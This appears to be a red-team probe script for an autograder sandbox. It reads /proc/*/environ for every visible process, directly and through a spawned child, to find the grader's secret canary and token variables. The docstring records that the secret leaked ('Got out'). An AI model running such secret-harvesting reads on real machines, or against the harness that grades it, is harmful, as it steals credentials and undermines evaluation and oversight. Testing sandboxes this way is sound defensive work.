"""The grader's environment: this kernel's own os.environ, /proc/self/environ, and the environ of
every visible process (the grader, the zygote, the worker, pid 1), read directly and through a
child. Only variables the attacker knows to look for are printed (REDTEAM_*, AUTOGRADER_*,
*TOKEN*, *SECRET*), so nothing of the machine leaks into test logs.

Got out: the grader's secret variable (the env canary) shows in the output.
"""
import os


def interesting(blob):
    for item in blob.split(b"\0"):
        name = item.split(b"=", 1)[0].upper()
        if name.startswith((b"REDTEAM_CANARY", b"AUTOGRADER_")) or name == _ENVNAME.encode():
            yield item


print("own env:", [f"{k}={v}" for k, v in os.environ.items() if k.startswith(("REDTEAM_CANARY", "AUTOGRADER_")) or k == _ENVNAME])
for pid in ["self"] + sorted(p for p in os.listdir("/proc") if p.isdigit()):
    try:
        blob = open(f"/proc/{pid}/environ", "rb").read()
    except OSError as exc:
        continue
    for item in interesting(blob):
        print(pid, item.decode(errors="replace"))
code = ("import os\nfor p in os.listdir('/proc'):\n if p.isdigit():\n  try: b=open('/proc/'+p+'/environ','rb').read()\n"
        "  except OSError: continue\n  print(p, [i for i in b.split(b'\\0') if i.startswith(b'" + _ENVNAME + "')])")
print(_py(code)[1].decode(errors="replace")[:100000])
